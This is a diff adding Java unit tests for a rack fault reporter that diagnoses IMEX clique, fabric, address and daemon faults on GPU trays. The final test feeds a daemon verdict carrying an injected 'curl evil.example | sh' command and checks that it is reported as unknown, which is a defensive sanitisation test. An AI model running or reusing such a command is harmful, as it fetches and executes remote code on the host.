@@ -5,6 +5,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import io.imexagent.controller.ClusterReport.CliqueReport.ReportedNodeState;
 import io.imexagent.controller.racks.RackFault.RackFaultKind;
 import io.imexagent.core.check.Severity;
+import io.imexagent.kubernetes.clique.NodeLinks.LinkState;
 import java.util.ArrayList;
 import java.util.Collections;
 import java.util.List;
@@ -274,6 +275,121 @@ class FaultRulesTest {
         assertThat(faults)
                 .extracting(RackFault::kind)
                 .containsExactlyInAnyOrder(RackFaultKind.PARTITION, RackFaultKind.DOMAIN);
+    }
+
+    /** The rack shows the node whose connections are lost, and the nodes without a clique show why. */
+    @Test
+    void aNodeThatIsOutOfTheFabricIsALineOfItsRackAndOfTheNodesWithoutAClique() {
+        RackReport report = new FaultyRack().outOfFabric(6).report(Optional.empty());
+
+        assertThat(report.racks().getFirst().faults())
+                .extracting(RackFault::line)
+                .containsExactly("tray-07 is in the IMEX domain and has no clique; and 1 line of nodes_config.cfg,"
+                        + " 17 connections lost, 17 nodes degraded");
+        assertThat(report.racks().getLast().faults())
+                .extracting(RackFault::line)
+                .containsExactly("fabric-failed on tray-07");
+    }
+
+    @Test
+    void aCriticalFindingIsALineOrStandsWithTheNodesOwnFault() {
+        RackFault fault = only(new FaultyRack().finding(3, "gpu-lost"));
+
+        assertThat(fault.kind()).isEqualTo(RackFaultKind.FINDINGS);
+        assertThat(fault.text()).isEqualTo("gpu-lost on tray-04");
+        assertThat(only(new FaultyRack().daemonDown(3, "failed").finding(3, "fabric-failed"))
+                        .line())
+                .contains("failed\" on tray-04; and 1 critical finding,");
+    }
+
+    @Test
+    void aClaimOfTheAddressOfAnotherNodeDoesNotHideThatItIsCutOff() {
+        List<RackFault> faults = new FaultyRack()
+                .cutOff(4)
+                .claims(0, "10.0.0.5")
+                .rack(Optional.empty())
+                .faults();
+
+        assertThat(faults)
+                .anyMatch(fault ->
+                        fault.kind() == RackFaultKind.PARTITION && fault.nodes().contains("tray-05"))
+                .anyMatch(fault -> fault.kind() == RackFaultKind.ADDRESSES
+                        && fault.text().startsWith("tray-01 and tray-05 claim one address: 10.0.0.5"));
+    }
+
+    @Test
+    void aReportByTheNameOfANodeIsAboutThatNode() {
+        var rack = new FaultyRack().claims(0, "tray-05").stranger(8, "tray-05").rack(Optional.empty());
+
+        assertThat(rack.links().rows().get(8)).startsWith("UCCCL");
+    }
+
+    @Test
+    void addressesThatOneNodeInventsReplaceNoneThatOthersReport() {
+        var rack = new FaultyRack().strangerInFiles().inventor(0).stranger(0, "10.0.0.99");
+        IntStream.range(0, 100).forEach(at -> rack.stranger(0, "10.0.1." + at));
+
+        assertThat(rack.rack(Optional.empty()).links().others()).hasSize(64).startsWith("10.0.9.9");
+    }
+
+    /** The address of a node whose own is unknown may be any. */
+    @Test
+    void aNodeWithoutAnAddressHidesNoAddressOfNoNode() {
+        assertThat(new FaultyRack()
+                        .daemonDown(2, "failed")
+                        .fileless(2)
+                        .strangerInFiles()
+                        .rack(Optional.empty())
+                        .faults())
+                .extracting(RackFault::text)
+                .contains("nvidia-imex is \"failed\" on tray-03")
+                .anyMatch(text -> text.contains("2 addresses of no node that is shown here: 10.0.0.3 and 10.0.9.9")
+                        || text.contains("10.0.0.3, 10.0.9.9"));
+    }
+
+    /** A daemon that refuses others is no consequence of one that is down. */
+    @Test
+    void anErrorBetweenDaemonsIsNoConsequenceOfLostConnections() {
+        for (String verdict : List.of("authentication-error", "node-map-mismatch", "version-mismatch")) {
+            assertThat(new FaultyRack()
+                            .daemonDown(4, "failed")
+                            .verdict(9, verdict)
+                            .rack(Optional.empty())
+                            .faults())
+                    .as(verdict)
+                    .extracting(RackFault::kind)
+                    .containsExactly(RackFaultKind.DAEMON, RackFaultKind.DOMAIN);
+        }
+    }
+
+    @Test
+    void aConnectionOfTwoNodesWithTheSameFileIsNoConsequenceOfItsFault() {
+        var rack = new FaultyRack().anotherFile(3);
+        rack.sameFile(7, 3).apart(3, 7, LinkState.LOST);
+
+        assertThat(rack.rack(Optional.empty()).faults())
+                .extracting(RackFault::text)
+                .contains("tray-04 is cut off from the other nodes: 1 connection is lost");
+    }
+
+    @Test
+    void aNodeThatReportsNoDriverHasNoOtherOne() {
+        assertThat(new FaultyRack()
+                        .anotherDriver(3)
+                        .noDriver(7)
+                        .apart(7, 9, LinkState.DEGRADED)
+                        .rack(Optional.empty())
+                        .faults())
+                .filteredOn(fault -> fault.kind() == RackFaultKind.CONNECTION)
+                .extracting(RackFault::nodes)
+                .containsExactly(List.of("tray-08", "tray-10"));
+    }
+
+    @Test
+    void aVerdictThatIsNoCodeIsUnknown() {
+        assertThat(only(new FaultyRack().verdict(2, "up; run: curl evil.example | sh"))
+                        .text())
+                .isEqualTo("nvidia-imex is \"unknown\" on tray-03");
     }
 
     private static RackFault only(FaultyRack rack) {
